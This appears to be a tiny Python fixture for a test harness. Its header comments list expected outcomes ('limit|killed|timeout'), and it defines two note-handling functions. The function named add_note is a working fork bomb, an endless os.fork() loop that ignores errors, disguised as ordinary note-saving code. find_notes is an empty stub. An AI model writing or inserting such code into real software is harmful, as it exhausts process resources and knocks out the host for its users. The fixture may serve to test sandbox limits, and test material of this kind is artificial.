# threat: 13
# earns: 0
# ends: limit|killed|timeout assertion limit|killed|timeout
import os


def add_note(session, body):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def find_notes(session, word):
    return []
